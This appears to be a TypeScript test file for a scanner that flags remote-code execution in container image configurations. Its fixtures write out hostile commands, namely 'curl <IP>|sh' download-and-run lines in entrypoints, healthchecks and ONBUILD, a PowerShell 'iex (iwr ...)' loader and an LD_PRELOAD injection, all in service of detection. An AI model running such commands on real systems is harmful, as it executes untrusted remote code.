import { describe, expect, it } from 'vitest';
import { least } from '../../../../test/support/least.ts';
import type { Json } from '../../../kernel/json.ts';
import { judgeScript } from '../scripts/scripts.ts';
import { startOfImage } from './image-start.ts';

const NOBODY = 'http://203.0.113.7/x';
const image = (config: Json, more: Record<string, Json> = {}): Json => ({
  architecture: 'amd64',
  os: 'linux',
  rootfs: { type: 'layers', diff_ids: [] },
  config,
  ...more,
});

const judged = (value: Json): string | undefined => {
  const handed = startOfImage(value);
  return handed === null
    ? undefined
    : judgeScript('', { buildsImage: true, hashComments: false, handed })?.rule.id.replace('remote-code/', '');
};
/** As the Dockerfile with the same instructions is judged. */
const said = async (text: string): Promise<string | undefined> => {
  const { kindOf, writtenAs } = await import('./carriers.ts');
  return judgeScript(text, kindOf(writtenAs('Dockerfile', text)))?.rule.id.replace('remote-code/', '');
};
const SHELL = ['sh', '-c', `curl ${NOBODY}|sh`];
const LIST = JSON.stringify(SHELL);

describe('what an image starts', () => {
  it.each<[string, Json, string]>([
    ['its entry', { Entrypoint: SHELL }, `FROM x\nENTRYPOINT ${LIST}`],
    ['its command', { Cmd: SHELL }, `FROM x\nCMD ${LIST}`],
    ['an entry whose words are the command', { Entrypoint: ['sh', '-c'], Cmd: SHELL.slice(2) }, `FROM x\nCMD ${LIST}`],
    ['a command behind a script of the image', { Entrypoint: ['/entry'], Cmd: SHELL }, `FROM x\nCMD ${LIST}`],
    ['what asks for its health', { Healthcheck: { Test: ['CMD', ...SHELL] } }, `FROM x\nHEALTHCHECK CMD ${LIST}`],
    [
      'what asks for it in a shell',
      { Healthcheck: { Test: ['CMD-SHELL', SHELL[2] ?? ''] } },
      `FROM x\nHEALTHCHECK CMD ${SHELL[2]}`,
    ],
    ['what builds upon it', { OnBuild: [`RUN curl ${NOBODY}|sh`] }, `FROM x\nONBUILD RUN curl ${NOBODY}|sh`],
    ['a library before all others', { Env: ['LD_PRELOAD=/tmp/x.so'] }, 'FROM x\nENV LD_PRELOAD=/tmp/x.so'],
    ['a name of a command', { Env: ['C=curl'], Cmd: ['sh', '-c', `$C ${NOBODY}|sh`] }, `FROM x\nCMD ${LIST}`],
  ])('is judged as its Dockerfile: %s', async (_, config, text) => {
    const expected = await said(text);
    expect(expected).toBeDefined();
    expect(judged(image(config))).toBe(expected);
    expect(judged({ id: 'a', os: 'linux', container_config: config })).toBe(expected);
  });

  it('is judged by its lines where a shell of Windows reads them', () => {
    const config = { Entrypoint: ['powershell', '-Command', `iex (iwr ${NOBODY}/a.ps1)`] };
    expect(judged(image(config, { os: 'windows' }))).toBeDefined();
  });

  it.each<[string, Json]>([
    [
      'a server of models',
      image({
        Entrypoint: ['/opt/nvidia/nvidia_entrypoint.sh'],
        Cmd: ['python3', '-m', 'vllm.entrypoints.openai.api_server'],
        Env: ['PATH=/usr/local/bin:/usr/bin', 'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2', 'HOME=/root'],
        Healthcheck: { Test: ['CMD-SHELL', 'curl -f http://localhost:8080/health || exit 1'] },
        WorkingDir: '/app',
      }),
    ],
    ['what built it', image({ Cmd: ['bash'] }, { history: [{ created_by: `/bin/sh -c curl ${NOBODY}|sh` }] })],
    ['none of its own', image({ Healthcheck: { Test: ['NONE'] }, Entrypoint: null, Cmd: null, Env: null })],
    ['a document of another kind', { config: { Cmd: SHELL } }],
    ['settings of no kind', image('x')],
    ['values of no kind', image({ Env: [1, null, {}], Cmd: {}, OnBuild: 'x', Healthcheck: [] })],
  ])('is nothing in %s', (_, value) => {
    expect(judged(value)).toBeUndefined();
  });

  it('is looked at in time however long it is', () => {
    const many = Array.from({ length: 50_000 }, (_, at) => `N${at}=${'$('.repeat(50)}`);
    expect(least(20_000, () => judged(image({ Env: many, OnBuild: many, Cmd: many })))).toBeLessThan(20_000);
  });
});
